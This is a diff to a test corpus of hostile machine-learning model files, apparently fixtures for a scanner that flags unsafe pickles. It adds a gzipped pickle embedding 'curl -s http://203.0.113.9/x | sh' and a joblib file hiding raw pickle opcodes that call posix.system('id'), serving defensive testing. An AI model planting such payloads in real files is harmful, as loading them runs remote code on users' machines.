@@ -1,9 +1,9 @@
 /** Hostile pickles and PyTorch files, and files built to be malformed or to exhaust resources. */
-import { strToU8, zipSync } from 'fflate';
+import { gzipSync, strToU8, zipSync } from 'fflate';
 import { type CorpusFile, plainSequential } from './common';
 import { npy, safetensors } from './formats';
 import { kerasArchive } from './keras';
-import { assemble, stateDictPickle, systemCallPickle, torchScriptPickle } from './pickle';
+import { assemble, joblibBytesPickle, stateDictPickle, systemCallPickle, torchScriptPickle } from './pickle';
 import { FIXED_TIME } from './time';
 import { torchLegacy, torchZip } from './torch';
 import { bombZip, duplicateZip, overlappingZip } from './zips';
@@ -233,6 +233,25 @@ export const HOSTILE_OTHER: readonly CorpusFile[] = [
     expect: 'refused',
     because: 'malformed',
     bytes: () => safetensors({ a: { dtype: 'PYOBJ', shape: [1], data_offsets: [0, 4] } }, 4),
+  },
+  {
+    name: 'pickle-gzipped-os-system.pkl.gz',
+    expect: 'unsafe',
+    because: 'pickle-call',
+    bytes: () => gzipSync(systemCallPickle('curl -s http://203.0.113.9/x | sh'), { mtime: FIXED_TIME }),
+  },
+  {
+    // joblib.load reads the array's bytes as data; pickle.load runs them as opcodes.
+    name: 'joblib-array-hiding-a-call.joblib',
+    expect: 'unsafe',
+    because: 'pickle-call',
+    bytes: () => joblibBytesPickle(strToU8("cposix\nsystem\n(S'id'\ntR.")),
+  },
+  {
+    name: 'joblib-xz-compressed.joblib',
+    expect: 'refused',
+    because: 'unsupported',
+    bytes: () => new Uint8Array([0xfd, 0x37, 0x7a, 0x58, 0x5a, 0x00, 0x00, 0x04, 0xe6, 0xd6, 0xb4, 0x46]),
   },
   {
     name: 'truncated.pkl',
